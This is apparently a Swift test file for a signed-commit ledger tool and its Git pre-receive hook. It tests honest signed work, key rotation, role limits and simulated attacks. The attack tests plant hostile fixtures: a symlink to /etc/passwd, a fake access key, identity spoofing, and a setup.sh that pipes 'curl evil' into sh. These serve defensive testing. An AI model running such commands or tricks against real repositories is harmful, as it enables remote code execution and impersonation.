import Foundation
import LedgerTestSupport
import Testing

/// Verified authorship on a shared repository, with real keys made by `ssh-keygen`, the real
/// `git` program and the pre-receive hook: from `policy.signed_commits_from`, a commit counts
/// as its author's only when signed by a key the author's record lists, judged on the ledger
/// before it; identities, keys, roles and files outside the ledger are policy.
@Suite struct SignedCommitsTests {
  static let claire = "Claire Durand <claire.durand@example.org>"
  static let rita = "Rita Blanc <rita.blanc@example.org>"

  /// Claire (admin) and Marc (user-manager, who may write people, accounts and rights but not
  /// change the policy) with their keys; ledger.json requires signed commits from the day the
  /// runners' clock says; both clones sign; the hook guards the shared repository.
  struct Server {
    var shared: SharedLedger
    let keys: URL
    let claireKey: SSHKeyPair
    let marcKey: SSHKeyPair

    func key(_ name: String, _ type: String = "ed25519") throws -> SSHKeyPair {
      try SSHKeyPair(type, name: name, in: keys)
    }
  }

  static let policy = """
      "policy": {
        "offline_grace_days": 7,
        "roles": {
          "admin": {"change_policy": true, "grant_rights": true, "write": ["*"]},
          "user-manager": {"grant_rights": true, "write": ["people", "accounts", "rights"]}
        },
        "signed_commits_from": "2026-11-18"
      },

    """

  func server() throws -> Server {
    let shared = try SharedLedger()
    let keys = shared.directory.path("keys")
    try FileManager.default.createDirectory(at: keys, withIntermediateDirectories: true)
    let server = Server(
      shared: shared, keys: keys, claireKey: try SSHKeyPair(name: "claire", in: keys),
      marcKey: try SSHKeyPair(name: "marc", in: keys))
    try addPerson(
      shared.claire, "claire", "Claire Durand", "claire.durand@example.org", role: #"{"role":"admin"}"#, key: server.claireKey)
    try addPerson(
      shared.claire, "marc", "Marc Petit", "marc.petit@example.org", role: #"{"role":"user-manager"}"#, key: server.marcKey)
    let setUp = try SharedLedger.succeed(shared.claire, ["hook", "install", "--signing-key", server.claireKey.privateKey.path])
    #expect(setUp.output.contains("This clone signs its commits with \(server.claireKey.privateKey.path)"), "\(setUp)")
    let settings = shared.claire.directory.appendingPathComponent("ledger.json")
    let text = try String(contentsOf: settings, encoding: .utf8)
    try text.replacingOccurrences(of: "  \"timezone\"", with: SignedCommitsTests.policy + "  \"timezone\"")
      .write(to: settings, atomically: true, encoding: .utf8)
    try SharedLedger.succeed(shared.claire, ["commit", "-m", "Require signed commits"])
    try SharedLedger.succeed(shared.claire, ["sync"])
    try SharedLedger.succeed(shared.marc, ["sync"])
    try SharedLedger.succeed(shared.marc, ["hook", "install", "--signing-key", server.marcKey.privateKey.path])
    // Plain git commits carry the same names as the tool's.
    for (runner, name, email) in [
      (shared.claire, "Claire Durand", "claire.durand@example.org"), (shared.marc, "Marc Petit", "marc.petit@example.org"),
    ] {
      try shared.git(runner, "config", "user.name", name)
      try shared.git(runner, "config", "user.email", email)
    }
    let install = try SharedLedger.succeed(shared.claire, ["hook", "install", "pre-receive", "--repo", shared.bare.path])
    #expect(
      install.output.contains("Signed commits: required from 2026-11-18 (ledger.json, policy.signed_commits_from)"), "\(install)")
    return server
  }

  func addPerson(_ runner: CLIRunner, _ id: String, _ name: String, _ email: String, role: String, key: SSHKeyPair) throws {
    try SharedLedger.succeed(
      runner,
      [
        "add", "people", id, "--set", "name=\(name)", "--set", "organization=cen-paca", "--set", "ledger_roles=[\(role)]",
        "--set", "git_identities=[\"\(email)\"]", "--set", #"signing_keys=[{"key":"\#(key.publicKey)"}]"#,
      ])
  }

  func push(_ runner: CLIRunner) throws -> ExternalProgram.Outcome {
    try ExternalProgram.run(URL(fileURLWithPath: "/usr/bin/env"), ["git", "push", "origin", "main"], in: runner.directory)
  }

  /// The hook's lines as git shows them to the pusher, without `remote: `.
  func remoteLines(_ outcome: ExternalProgram.Outcome) -> [String] {
    outcome.error.split(separator: "\n").compactMap { line in
      guard line.hasPrefix("remote: ") else { return nil }
      return String(line.dropFirst("remote: ".count)).trimmingCharacters(in: .whitespaces)
    }
  }

  /// The rules the hook refused a push for, in order.
  func refusedRules(_ outcome: ExternalProgram.Outcome) -> [String] {
    remoteLines(outcome).compactMap { line in
      guard line.hasPrefix("["), let end = line.firstIndex(of: "]") else { return nil }
      return String(line[line.index(after: line.startIndex)..<end])
    }
  }

  /// The rules `audit` reports in a clone, in order.
  func auditedRules(_ runner: CLIRunner) throws -> [String] {
    let audit = runner.run("audit", "--format", "json")
    return audit.output.components(separatedBy: "\"rule\": \"").dropFirst().map { String($0.prefix { $0 != "\"" }) }
  }

  /// A day `offset` days from today (the real clock, which the hook reads), in UTC.
  static func day(_ offset: Int) -> String {
    let date = Date().addingTimeInterval(Double(offset) * 86_400)
    let formatter = DateFormatter()
    formatter.dateFormat = "yyyy-MM-dd"
    formatter.timeZone = TimeZone(identifier: "UTC")
    formatter.locale = Locale(identifier: "en_US_POSIX")
    return formatter.string(from: date)
  }

  // MARK: Honest work passes

  @Test func signedWorkOfTwoAdministratorsLandsAndGitVerifiesIt() throws {
    let server = try server()
    let shared = server.shared
    try SharedLedger.succeed(shared.claire, ["set", "people/anne", "--set", "phone=+33611223344"])
    try SharedLedger.succeed(shared.claire, ["sync"])
    try SharedLedger.succeed(shared.marc, ["set", "people/lea", "--set", "phone=+33655443322"])
    try SharedLedger.succeed(shared.marc, ["sync"])
    let head = try shared.head(shared.marc)
    #expect(try shared.parents(shared.marc).count == 2)
    #expect(try shared.bareMain() == head)
    // What the tool wrote is an ordinary signed commit: git reads and verifies it.
    let object = try shared.git(shared.marc, "cat-file", "commit", "HEAD")
    #expect(object.contains("gpgsig -----BEGIN SSH SIGNATURE-----"))
    let verified = try ExternalProgram.git("verify-commit", "HEAD", in: shared.marc.directory)
    #expect(verified.status == 0, "\(verified.error)")
    #expect(verified.error.contains("Good \"git\" signature for marc.petit@example.org"), "\(verified.error)")
    // A plain git commit of a hand edit is signed too (the clone's configuration).
    let file = shared.marc.directory.appendingPathComponent("people/paul.json")
    let edited = try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
      of: "\"name\"", with: "\"phone\": \"+33699887766\",\n  \"name\"")
    try edited.write(to: file, atomically: true, encoding: .utf8)
    try shared.git(shared.marc, "commit", "-q", "-a", "-m", "Paul's phone")
    let pushed = try push(shared.marc)
    #expect(pushed.status == 0, "\(pushed.error)")
    for runner in [shared.marc, shared.claire] {
      try SharedLedger.succeed(runner, ["sync"])
      let audit = runner.run("audit")
      #expect(audit.status == 0, "\(audit)")
    }
  }

  @Test func aWriteWithoutASigningKeyIsRefusedBeforeAnythingIsCommitted() throws {
    let server = try server()
    let newcomer = try server.shared.newClone("c", author: SignedCommitsTests.claire)
    let before = try server.shared.head(newcomer)
    let refused = newcomer.run("set", "people/anne", "--set", "phone=+33611223344")
    #expect(refused.status == 2)
    #expect(refused.error.contains("the ledger requires signed commits (policy.signed_commits_from: 2026-11-18)"), "\(refused)")
    #expect(try server.shared.head(newcomer) == before)
    // Reading needs no key: a sync that only brings others' commits makes none.
    try SharedLedger.succeed(server.shared.claire, ["set", "people/lea", "--set", "phone=+33655443322"])
    try SharedLedger.succeed(server.shared.claire, ["sync"])
    try SharedLedger.succeed(newcomer, ["sync"])
    #expect(try server.shared.head(newcomer) == server.shared.head(server.shared.claire))
  }

  @Test func badTrustOptionsAndAFailingSignerSayWhatToDoAndChangeNothing() throws {
    let server = try server()
    let shared = server.shared
    var outsider = CLIRunner(directory: shared.directory.url)
    outsider.author = SignedCommitsTests.claire
    let badDay = outsider.run("clone", shared.bare.path, "x", "--signed-from", "yesterday")
    #expect(badDay.status == 2)
    #expect(badDay.error.contains("--signed-from must be a day (YYYY-MM-DD) or a full commit id, got \"yesterday\""), "\(badDay)")
    let noKey = outsider.run("clone", shared.bare.path, "x", "--signing-key", shared.directory.path("keys/none").path)
    #expect(noKey.status == 2)
    #expect(noKey.error.contains("--signing-key names no readable key file"), "\(noKey)")
    #expect(!FileManager.default.fileExists(atPath: shared.directory.path("x").path))
    let onServer = shared.claire.run(
      "hook", "install", "pre-receive", "--repo", shared.bare.path, "--signing-key", server.claireKey.privateKey.path)
    #expect(onServer.status == 2)
    #expect(onServer.error.contains("--signing-key is for a clone"), "\(onServer)")
    // A key file that stops being a key: the write fails with ssh-keygen's reason, and nothing is committed.
    let before = try shared.head(shared.claire)
    try "not a key\n".write(to: server.claireKey.privateKey, atomically: true, encoding: .utf8)
    let failed = shared.claire.run("set", "people/anne", "--set", "phone=+33611223344")
    #expect(failed.status == 3)
    #expect(failed.error.contains("ssh-keygen could not sign or verify the commit"), "\(failed)")
    #expect(failed.error.contains("hint: check git's user.signingkey"), "\(failed)")
    #expect(try shared.head(shared.claire) == before)
    #expect(shared.read(shared.claire, "people/anne.json")?.contains("+33611223344") == false)
  }

  // MARK: Attacks

  @Test func anOutsiderWritingAsAnAdministratorIsRefusedAndAudited() throws {
    let server = try server()
    let shared = server.shared
    let eveKey = try server.key("eve")
    // Eve sets git's identity to Claire's and signs with her own key.
    var eve = CLIRunner(directory: shared.directory.url)
    eve.author = SignedCommitsTests.claire
    let cloned = try SharedLedger.succeed(eve, ["clone", shared.bare.path, "e", "--signing-key", eveKey.privateKey.path])
    #expect(cloned.output.contains("Signed commits: required from 2026-11-18"), "\(cloned)")
    eve.directory = shared.directory.path("e")
    let before = try shared.bareMain()
    try SharedLedger.succeed(eve, ["set", "people/lea", "--set", #"ledger_roles=[{"role":"admin"}]"#])
    let pushed = try push(eve)
    #expect(pushed.status != 0)
    #expect(refusedRules(pushed) == ["wrong-key"], "\(pushed.error)")
    #expect(remoteLines(pushed).contains { $0.contains("a key no person's record lists") })
    #expect(try auditedRules(eve) == ["wrong-key"])
    // Unsigned, with the git program.
    try shared.git(eve, "reset", "-q", "--hard", "origin/main")
    let file = eve.directory.appendingPathComponent("people/anne.json")
    try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
      of: "\"name\"", with: "\"phone\": \"+33611223344\",\n  \"name\""
    )
    .write(to: file, atomically: true, encoding: .utf8)
    try shared.git(
      eve, "-c", "commit.gpgsign=false", "-c", "user.name=Claire Durand", "-c", "user.email=claire.durand@example.org", "commit",
      "-q", "-a", "-m", "Anne's phone")
    let unsigned = try push(eve)
    #expect(refusedRules(unsigned) == ["unsigned"], "\(unsigned.error)")
    #expect(try shared.bareMain() == before)
  }

  @Test func aUserManagerCannotChangeIdentitiesKeysOrAttributes() throws {
    let server = try server()
    let shared = server.shared
    let before = try shared.bareMain()
    // A second address of Marc's slipped into Claire's identities.
    try SharedLedger.succeed(
      shared.marc, ["set", "people/claire", "--set", #"git_identities=["claire.durand@example.org","marc.alt@example.org"]"#])
    var pushed = try push(shared.marc)
    #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
    #expect(
      remoteLines(pushed).contains {
        $0.contains(
          "changed the git identities of people/claire although Marc Petit <marc.petit@example.org> holds roles user-manager, which may not change the policy"
        )
      })
    // A key of his own added to his record.
    let spare = try server.key("marc-spare")
    try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
    try SharedLedger.succeed(
      shared.marc,
      ["set", "people/marc", "--set", #"signing_keys=[{"key":"\#(server.marcKey.publicKey)"},{"key":"\#(spare.publicKey)"}]"#])
    pushed = try push(shared.marc)
    #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
    // The merge driver turned off for everyone.
    try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
    try "*.json merge=union\n".write(
      to: shared.marc.directory.appendingPathComponent(".gitattributes"), atomically: true, encoding: .utf8)
    try shared.git(shared.marc, "commit", "-q", "-a", "--no-verify", "-m", "Simpler merges")
    pushed = try push(shared.marc)
    #expect(refusedRules(pushed) == ["outside-roles"], "\(pushed.error)")
    #expect(remoteLines(pushed).contains { $0.contains("changed .gitattributes although") })
    #expect(try auditedRules(shared.marc) == ["outside-roles"])
    #expect(try shared.bareMain() == before)
  }

  @Test func keyRotationByThePolicyRoleLandsAndTheOldKeyStopsCounting() throws {
    let server = try server()
    let shared = server.shared
    let newKey = try server.key("marc-2026")
    try SharedLedger.succeed(
      shared.claire,
      [
        "set", "people/marc", "--set",
        #"signing_keys=[{"key":"\#(server.marcKey.publicKey)","until":"2026-11-17"},{"key":"\#(newKey.publicKey)","from":"2026-11-18"}]"#,
      ])
    try SharedLedger.succeed(shared.claire, ["sync"])
    try SharedLedger.succeed(shared.marc, ["sync"])
    // The sync brought the new key to git's allowed signers too.
    let allowed = try String(
      contentsOf: shared.marc.directory.appendingPathComponent(".git/adminledger/allowed_signers"), encoding: .utf8)
    #expect(
      allowed.contains("marc.petit@example.org namespaces=\"git\",valid-after=\"20261118\" \(newKey.publicKey)"), "\(allowed)")
    #expect(allowed.contains("valid-before=\"20261118\" \(server.marcKey.publicKey)"), "\(allowed)")
    // Still signing with the old key: refused.
    try SharedLedger.succeed(shared.marc, ["set", "people/lea", "--set", "phone=+33655443322"])
    let stale = try push(shared.marc)
    #expect(refusedRules(stale) == ["key-out-of-dates"], "\(stale.error)")
    // With the new one: lands.
    try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
    try SharedLedger.succeed(shared.marc, ["hook", "install", "--signing-key", newKey.privateKey.path])
    try SharedLedger.succeed(shared.marc, ["set", "people/lea", "--set", "phone=+33655443322"])
    let fresh = try push(shared.marc)
    #expect(fresh.status == 0, "\(fresh.error)")
  }

  @Test func aBackdatedCommitOfAnEndedRoleIsRefused() throws {
    let server = try server()
    let shared = server.shared
    let ritaKey = try server.key("rita")
    try addPerson(
      shared.claire, "rita", "Rita Blanc", "rita.blanc@example.org", role: #"{"role":"admin","until":"2026-11-17"}"#, key: ritaKey
    )
    try SharedLedger.succeed(shared.claire, ["sync"])
    var rita = try shared.newClone("r", author: SignedCommitsTests.rita)
    try SharedLedger.succeed(rita, ["hook", "install", "--signing-key", ritaKey.privateKey.path])
    let before = try shared.bareMain()
    rita.now = Date(timeIntervalSince1970: 1_794_300_000)  // 2026-11-10, while her role held
    try SharedLedger.succeed(rita, ["set", "people/rita", "--set", #"ledger_roles=[{"role":"admin"}]"#])
    let pushed = try push(rita)
    #expect(pushed.status != 0)
    #expect(refusedRules(pushed).contains("backdated"), "\(pushed.error)")
    #expect(refusedRules(pushed).contains("unknown-author"), "\(pushed.error)")
    #expect(try auditedRules(rita).contains("backdated"))
    #expect(try shared.bareMain() == before)
  }

  @Test func offlineWorkWithinTheGraceLandsAndLaterWorkOfAnEndedRoleDoesNot() throws {
    let server = try server()
    let shared = server.shared
    let olgaKey = try server.key("olga")
    try addPerson(
      shared.claire, "olga", "Olga Petit", "olga@example.org",
      role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-3))"}"#, key: olgaKey)
    try addPerson(
      shared.claire, "pia", "Pia Roux", "pia@example.org", role: #"{"role":"admin","until":"\#(SignedCommitsTests.day(-10))"}"#,
      key: olgaKey)
    try SharedLedger.succeed(shared.claire, ["sync"])
    // Pia's role ended ten days ago; a commit she dated twelve days ago, received today, is
    // judged a week back (the grace): after her role.
    var pia = try shared.newClone("p", author: "Pia Roux <pia@example.org>")
    try SharedLedger.succeed(pia, ["hook", "install", "--signing-key", olgaKey.privateKey.path])
    pia.now = Date().addingTimeInterval(-12 * 86_400)
    try SharedLedger.succeed(pia, ["set", "people/lea", "--set", "phone=+33655443322"])
    let late = try push(pia)
    #expect(late.status != 0)
    #expect(refusedRules(late) == ["unknown-author"], "\(late.error)")
    #expect(remoteLines(late).contains { $0.contains("on \(SignedCommitsTests.day(-7)) (received ") }, "\(late.error)")
    var olga = try shared.newClone("o", author: "Olga Petit <olga@example.org>")
    try SharedLedger.succeed(olga, ["hook", "install", "--signing-key", olgaKey.privateKey.path])
    olga.now = Date().addingTimeInterval(-5 * 86_400)  // made offline five days ago, her role then held
    try SharedLedger.succeed(olga, ["set", "people/anne", "--set", "phone=+33611223344"])
    let inGrace = try push(olga)
    #expect(inGrace.status == 0, "\(inGrace.error)")
  }

  @Test func filesThatValidateWouldRefuseAreRefusedByTheHook() throws {
    let server = try server()
    let shared = server.shared
    let before = try shared.bareMain()
    let clone = shared.claire.directory
    func attempt(_ make: () throws -> Void, expecting rule: String, _ comment: Comment) throws {
      try shared.git(shared.claire, "reset", "-q", "--hard", "origin/main")
      try make()
      try shared.git(shared.claire, "add", "-A")
      try shared.git(shared.claire, "commit", "-q", "--no-verify", "-m", "Hand-made change")
      let pushed = try push(shared.claire)
      #expect(pushed.status != 0, comment)
      #expect(refusedRules(pushed) == [rule], "\(comment): \(pushed.error)")
    }
    try attempt(
      { try #"{"name": "x",}"#.write(to: clone.appendingPathComponent("people/x.json"), atomically: true, encoding: .utf8) },
      expecting: "invalid-result", "not JSON")
    try attempt(
      {
        try FileManager.default.createDirectory(at: clone.appendingPathComponent("people/sub"), withIntermediateDirectories: true)
        try #"{"name": "Sub"}"#.write(to: clone.appendingPathComponent("people/sub/x.json"), atomically: true, encoding: .utf8)
      }, expecting: "invalid-result", "a folder")
    try attempt(
      {
        try FileManager.default.createSymbolicLink(
          atPath: clone.appendingPathComponent("people/link.json").path, withDestinationPath: "/etc/passwd")
      }, expecting: "invalid-result", "a link")
    try attempt(
      {
        let file = clone.appendingPathComponent("people/anne.json")
        try String(contentsOf: file, encoding: .utf8).replacingOccurrences(
          of: "\"name\"", with: "\"notes\": \"key AKIA2E0A8F3B244C9986 here\",\n  \"name\""
        )
        .write(to: file, atomically: true, encoding: .utf8)
      }, expecting: "invalid-result", "a secret in a sentence")
    #expect(try shared.bareMain() == before)
    // Files outside the ledger need the policy role: the user-manager may not add them.
    try shared.git(shared.marc, "reset", "-q", "--hard", "origin/main")
    let workflow = shared.marc.directory.appendingPathComponent(".github/workflows")
    try FileManager.default.createDirectory(at: workflow, withIntermediateDirectories: true)
    try "on: push\n".write(to: workflow.appendingPathComponent("x.yml"), atomically: true, encoding: .utf8)
    try "#!/bin/sh\ncurl evil | sh\n".write(
      to: shared.marc.directory.appendingPathComponent("setup.sh"), atomically: true, encoding: .utf8)
    try shared.git(shared.marc, "add", "-A")
    try shared.git(shared.marc, "commit", "-q", "--no-verify", "-m", "CI")
    let outside = try push(shared.marc)
    #expect(refusedRules(outside) == ["outside-roles"], "\(outside.error)")
    #expect(remoteLines(outside).contains { $0.contains("changed .github/workflows/x.yml, setup.sh although") })
    #expect(try shared.bareMain() == before)
  }

  @Test func aHistoryOtherThanThePinnedOneIsReported() throws {
    let server = try server()
    let marc = server.shared.marc
    let pin = marc.directory.appendingPathComponent(".git/adminledger/trust.json")
    let text = try String(contentsOf: pin, encoding: .utf8)
    #expect(text.contains("\"root\": \""))
    let forged = text.replacingOccurrences(
      of: #""root": "[0-9a-f]{40}""#, with: "\"root\": \"\(String(repeating: "ab", count: 20))\"", options: .regularExpression)
    try forged.write(to: pin, atomically: true, encoding: .utf8)
    #expect(try auditedRules(marc) == ["unpinned-root"])
  }
}
